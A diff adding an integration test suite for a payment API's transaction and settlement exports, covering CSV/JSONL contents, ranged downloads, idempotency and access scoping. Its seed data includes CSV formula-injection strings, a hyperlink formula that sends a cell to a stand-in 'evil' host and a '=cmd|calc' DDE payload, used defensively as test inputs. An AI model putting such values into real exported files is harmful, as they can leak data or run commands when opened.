@@ -1,0 +1,259 @@
+// Whole run: much is made, or waited for, before it shows.
+// Exports: ordered, written behind the answer, fetched whole and in parts, by those whose they are.
+import assert from 'node:assert/strict';
+import { randomUUID } from 'node:crypto';
+import { before, describe, test } from 'node:test';
+import { defined } from '@switchyard/contract';
+import { parse } from 'csv-parse/sync';
+import { assertRefused } from '../support/assert-problem-response.ts';
+import type { Answer } from '../support/https-client.ts';
+import { keyedSale } from '../support/keyed-sale.ts';
+import { type Scene, scene } from '../support/test-merchant.ts';
+import { until } from '../support/wait-for-result.ts';
+
+const base = '/reporting/v1/exports';
+const salesCount = 25;
+/** An identifier of an order may be any text. */
+const oddOrders = new Map([
+  [3, 'a|b'],
+  [4, 'x|y|=hyperlink("http://evil/?"&a1;"ok")'],
+  [5, '|'],
+]);
+
+describe('exports', () => {
+  let on: Scene;
+  let transactionIds: string[];
+  let orderIds: string[];
+
+  const call = (method: string, path: string, body?: unknown, token = on.acquirerToken) =>
+    on.client.call(method, base + path, { token, ...defined({ body }) });
+  const content = (exportId: string, headers: Record<string, string> = {}) =>
+    on.client.call('GET', `${base}/${exportId}/content`, { token: on.acquirerToken, headers });
+
+  async function sell(members: Record<string, unknown>): Promise<string> {
+    const sale = await on.client.call('POST', '/payment/v1/transactions/process', {
+      token: on.shop.token,
+      body: keyedSale({ storeId: on.shop.storeId, ...members }),
+    });
+    assert.equal(sale.status, 200, sale.text);
+    return sale.body.transactionId;
+  }
+
+  const reported = (count: number) =>
+    until(async () => {
+      const { body } = await on.client.call('GET', '/reporting/v1/transactions?limit=200', {
+        token: on.acquirerToken,
+      });
+      return body.items.length >= count ? true : undefined;
+    }, 'the sales in the reports');
+
+  async function completed(ordered: Answer): Promise<Answer['body']> {
+    assert.equal(ordered.status, 202, ordered.text);
+    const { exportId } = ordered.body;
+    assert.equal(ordered.headers['location'], `${base}/${exportId}`);
+    return until(async () => {
+      const { body } = await call('GET', `/${exportId}`);
+      return body.state === 'Completed' ? body : undefined;
+    }, 'the export to be completed');
+  }
+
+  before(async () => {
+    on = await scene();
+    transactionIds = [];
+    orderIds = Array.from({ length: salesCount }, (_, at) => oddOrders.get(at) ?? randomUUID());
+    for (let count = 0; count < salesCount; count += 1) {
+      const order = { orderId: orderIds[count], orderDescription: '=cmd|calc' };
+      const clientTransactionId = count === 0 ? '-1+2' : `sale-${count}-${randomUUID()}`;
+      const isFirst = count === 0;
+      transactionIds.push(
+        await sell({ order, amount: 1000 + count, ...(isFirst ? {} : { clientTransactionId }) }),
+      );
+    }
+    await reported(salesCount);
+  });
+
+  test('a CSV holds every payment once, the oldest first, and its length is told', async () => {
+    const done = await completed(await call('POST', '', { format: 'Csv', transactions: {} }));
+    assert.equal(done.rows, salesCount);
+    assert.match(done.fileName, /^transactions-\d{8}-\d{6}\.csv$/);
+    const answer = await content(done.exportId);
+    assert.equal(answer.status, 200);
+    assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8');
+    assert.equal(answer.headers['content-length'], String(done.bytes));
+    assert.equal(answer.headers['content-disposition'], `attachment; filename="${done.fileName}"`);
+    const rows = parse(answer.text, { columns: true }) as Record<string, string>[];
+    assert.deepEqual(
+      rows.map(({ transactionId }) => transactionId),
+      transactionIds,
+    );
+    assert.deepEqual(
+      rows.map(({ amount }) => amount),
+      transactionIds.map((_id, index) => String(1000 + index)),
+    );
+    assert.deepEqual(
+      rows.map(({ orderId }) => orderId),
+      orderIds,
+    );
+    for (const { day, offline, updatedAt, clientTransactionId } of rows) {
+      assert.match(`${day} ${offline} ${updatedAt}`, /^[\d-]{10} false [\d-]{10}T[\d:.]+Z$/);
+      assert.match(clientTransactionId ?? '', /^(?:sale-\d+-)?[\da-f-]{36}$/);
+    }
+    assert.ok(rows.every(({ maskedNumber }) => /^411111\*+1111$/.test(maskedNumber ?? '')));
+    assert.doesNotMatch(answer.text, /4111111111111111/);
+  });
+
+  test('JSON Lines hold what the search tells of the same payments', async () => {
+    const transactions = { amountMin: 1003, amountMax: 1007, state: 'Captured' };
+    const ordered = await call('POST', '', { format: 'JsonLines', transactions });
+    const done = await completed(ordered);
+    const { text, headers } = await content(done.exportId);
+    assert.equal(headers['content-type'], 'application/jsonl; charset=utf-8');
+    const lines = text
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line));
+    assert.deepEqual(
+      lines.map(({ transactionId, amount }) => [transactionId, amount]),
+      transactionIds.slice(3, 8).map((id, index) => [id, 1003 + index]),
+    );
+    const query = '?amountMin=1003&amountMax=1007&state=Captured&order=OldestFirst';
+    const search = await on.client.call('GET', `/reporting/v1/transactions${query}`, {
+      token: on.acquirerToken,
+    });
+    for (const [index, item] of search.body.items.entries()) {
+      const { response, ...flat } = item;
+      assert.deepEqual(lines[index], {
+        ...flat,
+        responseCategory: response.category,
+        responseCode: response.code,
+        ...defined({ responseReason: response.reason }),
+        offline: item.offline ?? false,
+      });
+    }
+  });
+
+  test('a fetch that broke off goes on where it was', async () => {
+    const done = await completed(await call('POST', '', { format: 'Csv', transactions: {} }));
+    const whole = await content(done.exportId);
+    const etag = String(whole.headers['etag']);
+    const half = Math.floor(done.bytes / 2);
+    const rest = await content(done.exportId, { range: `bytes=${half}-`, 'if-range': etag });
+    assert.equal(rest.status, 206, rest.text);
+    assert.equal(rest.headers['content-range'], `bytes ${half}-${done.bytes - 1}/${done.bytes}`);
+    const first = await content(done.exportId, { range: `bytes=0-${half - 1}` });
+    assert.equal(first.text + rest.text, whole.text);
+    const changed = await content(done.exportId, { range: 'bytes=5-', 'if-range': '"other"' });
+    assert.equal(changed.status, 200);
+    assert.equal(changed.text, whole.text);
+    const beyond = await content(done.exportId, { range: `bytes=${done.bytes}-` });
+    assertRefused(beyond, { code: 'range_not_satisfiable', pointer: null });
+    assert.equal(beyond.headers['content-range'], `bytes */${done.bytes}`);
+  });
+
+  test('the same clientOperationId is the same export, and another order under it is refused', async () => {
+    const clientOperationId = randomUUID();
+    const order = { clientOperationId, format: 'Csv', transactions: { currency: 'EUR' } };
+    const first = await call('POST', '', order);
+    assert.equal(first.status, 202, first.text);
+    const again = await call('POST', '', order);
+    assert.equal(again.headers['idempotent-replayed'], 'true');
+    assert.equal(again.body.exportId, first.body.exportId);
+    const other = await call('POST', '', { ...order, transactions: { currency: 'USD' } });
+    assertRefused(other, { code: 'client_id_reused', pointer: '/transactions' });
+    const both = await Promise.all(
+      Array.from({ length: 4 }, () =>
+        call('POST', '', { ...order, clientOperationId: `${clientOperationId}-2` }),
+      ),
+    );
+    assert.equal(new Set(both.map(({ body }) => body.exportId)).size, 1);
+  });
+
+  test('settlements are a report too', async () => {
+    const done = await completed(await call('POST', '', { format: 'Csv', settlements: {} }));
+    const rows = parse((await content(done.exportId)).text, { columns: true }) as Record<
+      string,
+      string
+    >[];
+    const captured = rows.reduce((sum, row) => sum + Number(row['capturedAmount']), 0);
+    const sold = transactionIds.reduce((sum, _id, index) => sum + 1000 + index, 0);
+    assert.equal(captured, sold);
+  });
+
+  test('what an order lacks or has too much of is named', async () => {
+    assertRefused(await call('POST', '', { format: 'Csv' }), {
+      code: 'field_required',
+      pointer: '/transactions',
+    });
+    const both = { format: 'Csv', transactions: {}, settlements: {} };
+    assertRefused(await call('POST', '', both), { code: 'field_invalid' });
+    assertRefused(await call('POST', '', { format: 'Xlsx', transactions: {} }), {
+      code: 'field_invalid',
+      pointer: '/format',
+    });
+    assertRefused(await call('POST', '', { format: 'Csv', transactions: { colour: 'red' } }), {
+      code: 'field_unknown',
+      pointer: '/transactions/colour',
+    });
+    const amounts = { amountMin: 10, amountMax: 1 };
+    assertRefused(await call('POST', '', { format: 'Csv', transactions: amounts }), {
+      code: 'field_invalid',
+      pointer: '/transactions/amountMin',
+    });
+  });
+
+  test('a merchant has exports of its own payments, and nobody else sees them', async () => {
+    const { token } = on.shop;
+    const role = { name: 'manager', entityType: 'merchant' as const, roles: ['Merchant'] };
+    const manager = await on.tokenFor({
+      ...role,
+      entityId: on.otherShop.merchantId,
+      merchantId: on.otherShop.merchantId,
+    });
+    const ordered = await call('POST', '', { format: 'Csv', transactions: {} }, token);
+    assert.equal(ordered.status, 202, ordered.text);
+    const { exportId } = ordered.body;
+    assertRefused(await call('GET', `/${exportId}`, undefined, manager), {
+      code: 'resource_not_found',
+      pointer: null,
+    });
+    assert.equal((await call('GET', `/${exportId}`)).status, 200, 'the organisation above');
+    const { merchantId } = on.otherShop;
+    const foreign = { format: 'Csv', transactions: { merchantId } };
+    assertRefused(await call('POST', '', foreign, token), { code: 'entity_out_of_scope' });
+  });
+
+  test('another organisation does not see them, and a deleted one is gone with its content', async () => {
+    const done = await completed(await call('POST', '', { format: 'Csv', transactions: {} }));
+    const stranger = await scene();
+    for (const [method, path] of [
+      ['GET', ''],
+      ['GET', '/content'],
+      ['POST', '/cancel'],
+      ['DELETE', ''],
+    ] as const) {
+      const answer = await on.client.call(method, `${base}/${done.exportId}${path}`, {
+        token: stranger.acquirerToken,
+      });
+      assertRefused(answer, { code: 'resource_not_found', pointer: null }, `${method} ${path}`);
+    }
+    assertRefused(await call('POST', `/${done.exportId}/cancel`), { code: 'export_ended' });
+    assert.equal((await call('DELETE', `/${done.exportId}`)).status, 204);
+    assertRefused(await content(done.exportId), { code: 'resource_not_found' });
+    const { body } = await on.client.call('GET', '/audit/v1/records?limit=50', {
+      token: on.acquirerToken,
+    });
+    const actions = body.items
+      .filter((item: { entity: { id: string } }) => item.entity.id === done.exportId)
+      .map(({ action }: { action: string }) => action);
+    assert.deepEqual(actions.toSorted(), ['export.deleted', 'export.ordered']);
+  });
+
+  test('pages of the list go on, the newest first', async () => {
+    const first = await call('GET', '?limit=2');
+    assert.equal(first.body.items.length, 2);
+    const second = await call('GET', `?limit=2&cursor=${first.body.nextCursor}`);
+    const ids = [...first.body.items, ...second.body.items].map(({ exportId }) => exportId);
+    assert.deepEqual(ids, ids.toSorted().toReversed());
+    assert.equal(new Set(ids).size, ids.length);
+  });
+});
